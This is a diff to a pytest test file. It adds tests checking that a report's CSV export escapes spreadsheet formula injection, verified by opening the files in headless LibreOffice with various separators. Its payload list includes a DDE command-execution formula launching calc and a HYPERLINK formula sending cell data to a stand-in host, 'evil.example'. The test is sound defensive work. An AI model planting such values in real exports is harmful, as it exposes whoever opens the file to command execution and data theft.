@@ -79,6 +79,66 @@ TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
 TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
 
 
+PAYLOADS = (
+    *("=1+1", ";=1+1", "a;=1+1;b", "a\t=1+1\tb", "a|=1+1|b", "a\n=1+1\nb", "a\r\n=1+1", "a\r=1+1", "a;\n=1+1"),
+    *('a;"=1+1"', 'a;"=1+1";b', 'a;""=1+1', 'a";=1+1', '"a;=1+1', '";"=1+1', 'a,";=1+1', 'a;,"=1+1";', '\\";=1+1'),
+    *('"', ';"', '";', ';""', '";"', '"\n=1+1', '"\n"=1+1', '","=1+1', "a; =1+1", "a;\u00a0=1+1", "a;\u200b=1+1"),
+    *("a;+1+1", "a;-1+1", "a;@SUM(1)", "a;＝1+1", "a|\t=1+1", "a;'=1+1", "Bob;=cmd|'/C calc'!A0;"),
+    *('a;=HYPERLINK("http://evil.example/?"&A1);b', "a\t+1+1|=2+2;-3+3\n@x", '"";""=1+1', '";";"=1+1";"'),
+)
+SEPARATORS = {"comma": "44", "semicolon": "59", "tab": "9", "bar": "124", "all": "44/59/9/124"}
+TEXT_COLUMNS = {
+    "contactName": "CONTACT",
+    "externalId": "EXTERNAL_ID",
+    "summary": "SUMMARY",
+    "sessionType": "SESSION_TYPE",
+    "actualResult": "ACTUAL_RESULT",
+    "expectedResult": "EXPECTED_RESULT",
+    "otherContact": "CONTACT_INFORMATION",
+}
+
+
+@pytest.fixture
+async def attacks(
+    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker, tmp_path: Path
+) -> Path:
+    """A folder with `attacks.csv`, a report of each payload in each column that a caller writes, and `plain.csv`, the
+    same without apostrophes.
+    """
+    ask = await make_caller(client, account, Role.ADMIN, {"email": "ana@example.com"})
+    await make_agent(account)
+    alone = [{name: payload} for name in TEXT_COLUMNS for payload in PAYLOADS if _is_allowed(name, payload)]
+    everywhere = [
+        {name: payload for name in TEXT_COLUMNS if name != "externalId" and _is_allowed(name, payload)}
+        for payload in PAYLOADS
+    ]
+    await record(database, account, *alone, *everywhere, *({"tags": [payload]} for payload in PAYLOADS[:9]))
+    columns = [*TEXT_COLUMNS.values(), "TAGS", "UTMS", "COMMENT"]
+    for name, escapes in (("attacks", True), ("plain", False)):
+        export_id = await ask_for_report(ask, columns=columns, escapeFormulas=escapes)
+        assert (await finished(ask, export_id))["status"] == "DONE"
+        (tmp_path / f"{name}.csv").write_bytes((await download(client, ask, export_id)).content)
+    return tmp_path
+
+
+def _is_allowed(name: str, payload: str) -> bool:
+    """Return whether the field takes the payload: only some may have several lines."""
+    return name not in ("externalId", "sessionType") or len(payload.splitlines()) == 1
+
+
+@pytest.mark.parametrize("separator", SEPARATORS)
+async def test_no_text_becomes_a_formula_whatever_separates_the_cells(attacks: Path, separator: str) -> None:
+    options = f"{SEPARATORS[separator]},34,76,1,,1033,false,true,false,false,false,0,true"
+
+    async def count_formulas(name: str) -> int:
+        rows = await to_thread.run_sync(_open_with, options, attacks / f"{name}.csv", attacks / separator)
+        assert sum(map(len, rows)) > len(PAYLOADS) * len(TEXT_COLUMNS)
+        return sum(kind == "formula" for row in rows for kind, _ in row)
+
+    assert await count_formulas("plain") > 0
+    assert await count_formulas("attacks") == 0
+
+
 @pytest.fixture
 async def report(
     client: httpx.AsyncClient, account: Account, database: Database, worker: Worker, tmp_path: Path
@@ -103,15 +163,19 @@ async def report(
 
 def open_in(language: str, report: Path) -> list[list[tuple[str, str]]]:
     """Return the type and the text of each cell below the header, as LibreOffice reads the file in the language."""
-    folder = report.parent / language
+    return _open_with(f"44,34,76,1,,{LANGUAGES[language]},false,true", report, report.parent / language)[1:]
+
+
+def _open_with(options: str, report: Path, folder: Path) -> list[list[tuple[str, str]]]:
+    """Return the cells that LibreOffice reads with these options of its import of CSV."""
     command = [
         *("soffice", f"-env:UserInstallation=file://{report.parent}/profile", "--headless"),
-        f"--infilter=CSV:44,34,76,1,,{LANGUAGES[language]},false,true",
+        f"--infilter=CSV:{options}",
         *("--convert-to", "fods", "--outdir", str(folder), str(report)),
     ]
     subprocess.run(command, check=True, capture_output=True, timeout=120)
-    rows = _repeated(ElementTree.parse(folder / "report.fods").iter(f"{TABLE}table-row"), "rows")
-    return [[_read(cell) for cell in _repeated(row.iter(f"{TABLE}table-cell"), "columns")] for row in rows][1:]
+    rows = _repeated(ElementTree.parse(folder / f"{report.stem}.fods").iter(f"{TABLE}table-row"), "rows")
+    return [[_read(cell) for cell in _repeated(row.iter(f"{TABLE}table-cell"), "columns")] for row in rows]
 
 
 def _repeated(elements: Iterable[ElementTree.Element], what: str) -> Iterator[ElementTree.Element]:
